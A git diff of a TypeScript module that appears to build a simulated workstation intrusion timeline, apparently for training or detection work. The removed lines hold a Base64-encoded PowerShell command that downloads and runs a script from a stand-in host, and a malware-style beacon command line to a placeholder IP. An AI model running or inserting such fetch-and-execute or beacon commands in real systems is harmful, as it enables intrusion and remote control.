@@ -1,15 +1,13 @@
 import { hostileCommandLine } from './hostileCommandLine';
+import { asEncodedCommand, firstStage } from './hiddenScripts';
+import { toolCommandLine } from './spreadSteps';
 import { type StoryStep } from './storyStep';
 
 const system32 = 'C:\\Windows\\System32';
 const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
 const temp = 'C:\\Users\\maren.voss\\AppData\\Local\\Temp';
 
-/** What PowerShell is told, as it would be hidden from a casual look: UTF-16 in Base64. */
-const encodedScript = Buffer.from(
-  "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.net/stage.ps1')",
-  'utf16le'
-).toString('base64');
+const encodedScript = asEncodedCommand(firstStage);
 
 /**
  * The intrusion on the workstation. A mail attachment starts a shell, the shell an encoded PowerShell, that a
@@ -121,7 +119,7 @@ export const workstationSteps: readonly StoryStep[] = [
   {
     key: 'tool',
     image: `${temp}\\update-svc.exe`,
-    commandLine: `"${temp}\\update-svc.exe" --beacon 203.0.113.45:8443 --id 7f3a`,
+    commandLine: toolCommandLine,
     parent: 'powershell',
     start: '09:15:21.118',
   },
